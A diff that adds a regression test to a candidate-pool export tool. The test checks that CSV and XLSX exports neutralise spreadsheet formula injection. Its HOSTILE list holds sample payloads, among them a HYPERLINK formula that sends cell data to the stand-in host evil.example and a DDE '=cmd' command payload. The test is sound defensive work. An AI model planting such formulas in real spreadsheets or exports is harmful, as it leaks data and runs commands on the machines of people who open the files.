@@ -245,3 +245,40 @@ def test_a_running_import_beats_after_every_chunk(team, tmp_path, monkeypatch):
     with connection.execute_wrapper(watch):
         importing.import_batch_process(batch=batch)
     assert len(beats) >= 4 and all(beats) and beats == sorted(beats)
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1", "-2+3"]
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx(tmp_path):
+    import openpyxl
+
+    source = tmp_path / "hostile.csv"
+    with source.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["Prénom", "Nom", "Email", "Poste"])
+        for i, text in enumerate(HOSTILE):
+            writer.writerow([text, "Martin", f"c{i}@exemple.fr", text])
+    assert vivier(tmp_path, "import", str(source)).returncode == 0
+    result = vivier(tmp_path, "export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert sorted(r["first_name"] for r in rows) == sorted("'" + text for text in HOSTILE)
+    out = tmp_path / "pool.xlsx"
+    result = vivier(tmp_path, "export", "--format", "xlsx", "--output", str(out))
+    assert result.returncode == 0, result.stderr
+    sheet = openpyxl.load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("first_name")] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == sorted(HOSTILE)  # the text as typed, stored as text
+    assert {c.data_type for c in cells} == {"s"}
+    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "DJANGO_SETTINGS_MODULE")}
+    piped = subprocess.run(
+        [sys.executable, "-m", "vivier", "export", "--format", "xlsx"],
+        cwd=ROOT,
+        env={**env, "VIVIER_DATA_DIR": str(tmp_path)},
+        capture_output=True,
+        timeout=120,
+    )
+    assert piped.returncode == 0 and piped.stdout.startswith(b"PK")
+    assert openpyxl.load_workbook(io.BytesIO(piped.stdout)).active.max_row == len(HOSTILE) + 1
